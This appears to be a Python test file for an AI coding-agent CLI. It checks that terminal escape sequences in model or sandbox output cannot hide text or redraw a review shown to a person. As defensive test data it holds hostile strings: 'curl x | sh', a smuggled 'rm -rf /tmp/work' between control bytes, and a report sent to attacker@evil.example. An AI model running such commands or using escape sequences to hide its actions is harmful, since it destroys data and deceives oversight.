"""Text from a model or a sandbox never reaches the terminal with its control characters:
an escape sequence cannot redraw a review, hide text or set the window title."""

from __future__ import annotations

import io

from rich.console import Console

from fluffy.cli.render import print_error, stderr
from fluffy.cli.session_view import SessionRenderer
from fluffy.errors import ToolFailed
from fluffy.safetext import strip_sequences, visible
from unit.cli_fakes import KINDS, complete, shown

# cursor up + clear line + a fake line; an OSC title; hidden text; a bidi override
HOSTILE = (
    "os.system('curl x | sh')\x1b[1A\x1b[2K+ assert True\x1b]0;pwned\x07\x1b[8msecret\u202eevil\r"
)


def plain_console() -> tuple[Console, io.StringIO]:
    out = io.StringIO()
    return Console(file=out, force_terminal=False, color_system=None, width=200), out


def test_control_characters_become_visible_tokens() -> None:
    shown = visible(HOSTILE)
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "\r" not in shown
    assert "\\x1b[1A\\x1b[2K+ assert True\\x1b]0;pwned\\x07" in shown
    assert "<U+202E>evil\\r" in shown
    assert visible("line one\n\tindented") == "line one\n\tindented"  # layout stays


def test_every_event_the_session_view_shows_is_made_visible() -> None:
    console, out = plain_console()
    view = SessionRenderer(console)
    diff = f"--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n+{HOSTILE}\n"
    events = [
        {"type": "turn_start", "text": HOSTILE},
        {"type": "text_delta", "content": HOSTILE},
        {"type": "tool_executing", "call_id": "c", "tool_name": "fs.write",
         "description": f"Writing {HOSTILE}"},
        {"type": "tool_result", "call_id": "c", "tool_name": "fs.write", "duration_ms": 3,
         "ok": True, "summary": HOSTILE},
        {"type": "tool_result", "call_id": "d", "tool_name": "test.run", "duration_ms": 3,
         "ok": False, "error": {"what": HOSTILE, "why": HOSTILE, "fix": HOSTILE}},
        {"type": "review", "auto": False, "lines": 1, "reasons": [HOSTILE],
         "files": ["app.py"], "diff": diff},
        {"type": "notice", "level": "warn", "what": HOSTILE, "why": HOSTILE},
        {"type": "turn_end", "status": "failed", "text": HOSTILE,
         "error": {"what": HOSTILE}},
    ]  # fmt: skip
    for event in events:
        view.render(shown(event))
    for kind in KINDS:  # and every kind, with every text of it hostile
        view.render(shown(_hostile(complete({"type": kind}))))
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert text.count("+ assert True") >= 5  # shown, with its escapes in front of it
    assert "\\x1b[1A\\x1b[2K+ assert True" in text


def _hostile(value: object) -> object:
    """``value`` with every empty text in it (but its kind) made :data:`HOSTILE`."""
    if isinstance(value, dict):
        return {k: v if k == "type" else _hostile(v) for k, v in value.items()}
    return HOSTILE if value == "" else value


def test_errors_and_every_print_of_the_cli_consoles_are_made_visible() -> None:
    out = io.StringIO()
    stderr.file = out
    try:
        print_error(ToolFailed(HOSTILE, why=HOSTILE, fix=HOSTILE))
    finally:
        stderr.file = None  # type: ignore[assignment]
    assert "\x1b]0;" not in out.getvalue() and "\\x1b]0;pwned" in out.getvalue()


#: A runner's error as vitest printed it (rolldown's parse error, coloured): a reporter
#: that drops the escape byte alone leaves ``[31m`` and ``[38;5;246m`` in the text.
PARSE_ERROR = (
    "Transform failed with 1 error:\n\x1b[31m[PARSE_ERROR] Error:\x1b[0m Expected `;` but "
    "found `:`\n   \x1b[38;5;246m╭\x1b[0m\x1b[38;5;246m─\x1b[0m[ src/index.ts:3:7 ]\n"
    "\x1b]8;;file:///workspace/src/index.ts\x1b\\src/index.ts\x1b]8;;\x1b\\\x1b(B\x1b[m"
)


def test_a_runners_colour_codes_are_removed_whole_never_left_as_text() -> None:
    assert strip_sequences(PARSE_ERROR) == (
        "Transform failed with 1 error:\n[PARSE_ERROR] Error: Expected `;` but found `:`\n"
        "   ╭─[ src/index.ts:3:7 ]\nsrc/index.ts"
    )
    # what no complete 7-bit sequence holds stays, for visible() to show as tokens
    kept = strip_sequences("a\x1b b \x1b]0;no end\nnext \x1b[3 \x9d c1 osc \x9c \x9b31m")
    assert visible(kept) == "a\\x1b b \\x1b]0;no end\nnext \\x1b[3 \\x9d c1 osc \\x9c \\x9b31m"


def test_what_a_person_decides_on_shows_every_character_it_holds() -> None:
    """A held command or a call's arguments hide nothing: a sequence between the visible
    parts is shown as its characters, never removed with what it surrounds."""
    argv = "sh -c 'pytest -q\x9d; rm -rf /tmp/work; echo pwned\x9c'"
    shown = visible(argv)
    assert "rm -rf /tmp/work" in shown and "\\x9d" in shown and "\\x9c" in shown
    hidden_amp = visible("pytest -q \x1b[&rm -rf x")
    assert hidden_amp == "pytest -q \\x1b[&rm -rf x"
    link = visible('{"body": "report\x1b]8;;x\x07", "to": "attacker@evil.example"}')
    assert "attacker@evil.example" in link and "\\x1b]8;;x\\x07" in link
